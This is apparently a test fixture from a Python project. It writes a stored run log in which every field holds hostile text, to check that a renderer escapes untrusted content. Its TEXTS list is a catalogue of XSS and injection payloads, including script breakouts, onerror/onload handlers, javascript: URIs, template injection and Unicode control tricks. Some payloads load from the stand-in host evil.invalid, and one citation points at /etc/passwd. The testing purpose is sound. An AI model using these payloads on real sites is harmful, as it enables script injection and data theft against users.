"""Texts that try to run code in a page, to leave it, to break out of its data, or to change how a line reads."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

from harlm import events
from harlm.types import Answer, Citation, Confidence, Message, Mode, Usage, Weighed
from tests.support.told_runs import stored

RUN = "01J0000000000000000000HHHH"

TEXTS = (
    "<script>pwned('script')</script>",
    "</script><script>pwned('end of script')</script>",
    "</SCRIPT ><SCRIPT>pwned('case')</SCRIPT>",
    "<!--<script>pwned('comment')</script>-->",
    "--><script>pwned('end of comment')</script>",
    "<![CDATA[<script>pwned('cdata')</script>]]>",
    "</style><script>pwned('style')</script>",
    "</title><script>pwned('title')</script>",
    "</textarea><script>pwned('textarea')</script>",
    "</pre></td></tr></table><script>pwned('table')</script>",
    "<img src=x onerror=pwned('img')>",
    "<img src='x' onerror='pwned(1)'>",
    '"><img src=x onerror=pwned(2)>',
    "'><img src=x onerror=pwned(3)>",
    "`><img src=x onerror=pwned(4)>",
    "<svg onload=pwned('svg')>",
    "<svg><script>pwned('svg script')</script></svg>",
    "<svg><animate onbegin=pwned('animate') attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload=pwned(5)>'></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned(6)>",
    "<iframe srcdoc='<script>parent.pwned(7)</script>'></iframe>",
    "<iframe src='javascript:parent.pwned(8)'></iframe>",
    "<object data='javascript:pwned(9)'></object>",
    "<embed src='javascript:pwned(10)'>",
    "<a href='javascript:pwned(11)'>click</a>",
    "javascript:pwned(12)",
    "JaVaScRiPt:pwned(13)",
    "data:text/html,<script>pwned(14)</script>",
    '<a href="data:text/html;base64,PHNjcmlwdD5wd25lZCgxNSk8L3NjcmlwdD4=">x</a>',
    "<body onload=pwned(16)>",
    "<input autofocus onfocus=pwned(17)>",
    "<details open ontoggle=pwned(18)><summary>x</summary></details>",
    "<video><source onerror=pwned(19)></video>",
    "<audio src=x onerror=pwned(20)>",
    "<marquee onstart=pwned(21)>",
    "<form action='http://evil.invalid/'><button>go</button></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "<base href='http://evil.invalid/'>",
    "<link rel=stylesheet href='http://evil.invalid/a.css'>",
    "<style>@import 'http://evil.invalid/b.css'; * { display: none }</style>",
    "<img src='http://evil.invalid/pixel.png'>",
    "<script src='http://evil.invalid/c.js'></script>",
    "![alt](http://evil.invalid/d.png)",
    "{{constructor.constructor('pwned(22)')()}}",
    "${pwned(23)}",
    "<%= pwned(24) %>",
    "#{pwned(25)}",
    "__proto__",
    "\u202egnp.exe\u202c <script>pwned('rtl')</script>",
    "\u2028<script>pwned('separator')</script>\u2029",
    "\x00<script>pwned('nul')</script>\x1b[31m",
    "&lt;script&gt;pwned('entity')&lt;/script&gt;",
    '{"dangerouslySetInnerHTML": {"__html": "<img src=x onerror=pwned(26)>"}}',
)


_ALL = "\n".join(TEXTS)


def write_hostile_run(runs: Path) -> Path:
    """A stored run, written as runs are, in which every text is hostile."""
    made = [("0", event) for event in _begin()]
    for at, text in enumerate(TEXTS):
        made += [(f"0.{at}", event) for event in _node(at, text)]
    made += [("0", event) for event in _end()]
    return stored(runs, [(at / 100, node, event) for at, (node, event) in enumerate(made)], RUN)


def _begin() -> Iterator[events.Event]:
    yield events.RunStarted(
        question=_ALL, root_model=TEXTS[0], sub_model=TEXTS[10], documents=1, characters=10, tokens=3, limits={"calls": 10.0}
    )  # fmt: skip
    option = Weighed(option=TEXTS[0], mode="full", right=0.5, micros=1, seconds=1, utility=None, obstacle=TEXTS[10])  # fmt: skip
    chances: dict[Mode, float] = {"full": 0.6, "direct": 0.4}
    yield events.Routed(mode="full", probabilities=chances, reasons=TEXTS, weighed=(option,))
    yield events.NodeStarted(depth=0, question=_ALL, mode="full", documents=1, characters=10)


def _node(at: int, text: str) -> Iterator[events.Event]:
    messages = (Message(role="system", content=text), Message(role="user", content=text * 3))
    usage = Usage(calls=1, input_tokens=10, output_tokens=5)
    yield events.NodeStarted(depth=1, question=text, mode="full", documents=1, characters=1)
    yield events.CallStarted(call=at, role="sub", model=text, messages=messages)
    yield events.CallFinished(call=at, text=text, usage=usage, stop="end", latency_s=0.01, thoughts=text)
    yield events.CellStarted(turn=1, code=f"x = {json.dumps(text)}  # {text}")
    yield events.Searched(query=text, hits=1, seconds=0.001)
    error = text if at % 2 else ""
    yield events.ToolCalled(tool=text, arguments=text, value=text, seconds=0.001, error=error)
    yield events.CellFinished(
        turn=1, output=text, output_chars=len(text), error=text, finished=False, wall_s=0.01, waiting_s=0
    )
    call = events.ScheduledCall(
        number=1, function=text, needs=(), early=True, claimed=bool(at % 2), began_s=0.0, seconds=0.001
    )
    yield events.Scheduled(
        turn=1, pattern=text, calls=1, early=1, claimed=0, wasted=1, critical_path_s=0.01, busy_s=0.01, parallelism=1, graph=(call,)
    )  # fmt: skip
    yield events.Noted(message=text)
    yield events.LimitReached(limit="calls", used=1, allowed=1, message=text)
    yield events.NodeFinished(status="failed" if at % 3 else text, text=text)


def _end() -> Iterator[events.Event]:
    confidence = Confidence(value=0.5, reasons=TEXTS, calibration=TEXTS[0])
    yield events.Judged(model=TEXTS[0], mode="full", confidence=confidence)
    yield events.NodeFinished(status="ok", text=_ALL)
    cited = tuple(
        Citation(source=text, start=0, end=1, line=1, page=None, place=f"{text}:1", quote=text, path="/etc/passwd")
        for text in TEXTS
    )  # fmt: skip
    yield events.Answered(
        answer=Answer(text=_ALL, data={"x": list(TEXTS)}, citations=cited, confidence=0.5, confidence_reasons=TEXTS, mode="full", run_id=RUN)
    )  # fmt: skip
